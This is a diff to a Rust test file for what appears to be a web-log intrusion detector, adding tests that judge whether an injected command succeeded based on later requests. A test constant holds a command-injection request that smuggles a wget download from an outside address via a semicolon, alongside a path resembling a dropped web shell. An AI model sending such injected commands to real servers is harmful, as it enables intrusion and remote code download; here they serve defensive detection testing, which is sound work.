@@ -27,7 +27,10 @@ fn log(asks: &[Ask<'_>]) -> String {
 
 /// Findings of uploads and of web shells, in the order of their kinds.
 fn told(asks: &[Ask<'_>]) -> Vec<(Scenario, Outcome)> {
-    let asked = [Scenario::WEB_UPLOAD, Scenario::WEB_SHELL];
+    told_of(asks, &[Scenario::WEB_UPLOAD, Scenario::WEB_SHELL])
+}
+
+fn told_of(asks: &[Ask<'_>], asked: &[Scenario]) -> Vec<(Scenario, Outcome)> {
     let [told, lagging, backwards] =
         [Order::Together, Order::GroupsLag, Order::Backwards].map(|order| {
             let found = correlate(&log(asks), 64 << 20, order).findings;
@@ -113,4 +116,52 @@ fn a_script_that_all_visitors_read_is_the_sites_own() {
     assert_eq!(told(&used)[0], (Scenario::WEB_UPLOAD, Outcome::LikelySucceeded));
     let shells = told(&used).iter().filter(|(kind, _)| *kind == Scenario::WEB_SHELL).count();
     assert_eq!(shells, 2);
+}
+
+const INJECTED: &str = "POST /report.do?to=a;wget%20http://198.51.100.9/a%20-O%20b";
+const LEFT: &str = "POST /office/qwe123.jsp";
+
+/// A site with visitors, a command injected into it, and what follows: who, pause in seconds, path and bytes.
+fn after_command(status: u16, left: &[(&'static str, u32, &'static str, u32)]) -> Vec<Outcome> {
+    let visitors: Vec<String> = (1..200).map(|n| format!("36.1.{n}.7")).collect();
+    let visit = |(second, source): (u32, &String)| {
+        let source: &'static str = source.clone().leak();
+        (second, source, "GET /office/main.do?method=main", 200, 5_000 + second)
+    };
+    let mut asks: Vec<Ask<'static>> = (1..).zip(&visitors).map(visit).collect();
+    // What visits teach is known when they are over.
+    asks.push((9_000, "36.1.2.7", "GET /office/main.do", 200, 5_000));
+    asks.push((10_000, INTRUDER, INJECTED, status, 312));
+    let mut second = 10_010;
+    for (source, pause, path, bytes) in left {
+        second += pause;
+        asks.push((second, source, path, 200, *bytes));
+    }
+    let found = told_of(&asks, &[Scenario::WEB_COMMAND]);
+    found.into_iter().map(|(_, outcome)| outcome).collect()
+}
+
+#[test]
+fn a_program_that_only_the_attacker_uses_shows_success() {
+    let commands = |source, pause, path| {
+        [112, 980, 4_312, 112, 240, 16_000].map(|bytes| (source, pause, path, bytes))
+    };
+    let used = commands(INTRUDER, 7, LEFT);
+    assert_eq!(after_command(200, &used), [Outcome::LikelySucceeded]);
+    assert_eq!(after_command(500, &used), [Outcome::LikelySucceeded]);
+    // It was refused.
+    assert_eq!(after_command(404, &used), [Outcome::Attempted]);
+    // Too few, too fast, by somebody else, of a page that was there before, or always the same answer.
+    let open = [Outcome::NotDeterminable];
+    assert_eq!(after_command(200, &used[..4]), open);
+    assert_eq!(after_command(200, &commands(INTRUDER, 0, LEFT)), open);
+    assert_eq!(after_command(200, &commands("36.1.2.8", 7, LEFT)), open);
+    assert_eq!(after_command(200, &commands(INTRUDER, 7, "POST /office/main.do")), open);
+    assert_eq!(
+        after_command(200, &used.map(|(source, pause, path, _)| (source, pause, path, 88))),
+        open
+    );
+    // Others ask for it as well.
+    let others = ["36.1.2.1", "36.1.2.2", "36.1.2.3"].map(|source| (source, 1, LEFT, 500));
+    assert_eq!(after_command(200, &[&used[..], &others].concat()), open);
 }
